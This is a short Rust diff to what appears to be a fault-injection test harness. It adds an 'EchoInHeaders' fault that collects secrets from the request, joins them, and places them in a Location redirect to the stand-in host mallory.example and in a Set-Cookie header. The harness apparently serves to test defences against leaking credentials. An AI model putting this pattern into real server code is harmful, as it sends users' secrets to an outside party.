@@ -88,6 +88,14 @@ pub(crate) fn perform(
         Fault::EchoInHeaders => {
             let response = honest();
             let secrets = secrets_of(request, &response);
+            let all: Vec<String> = secrets
+                .iter()
+                .map(|(_, value)| value.chars().filter(char::is_ascii_graphic).collect())
+                .collect();
+            let all = all.join(",");
+            let response = response
+                .header("Location", &format!("http://mallory.example/?{all}"))
+                .header("Set-Cookie", &format!("echo={all}"));
             secrets
                 .iter()
                 .enumerate()
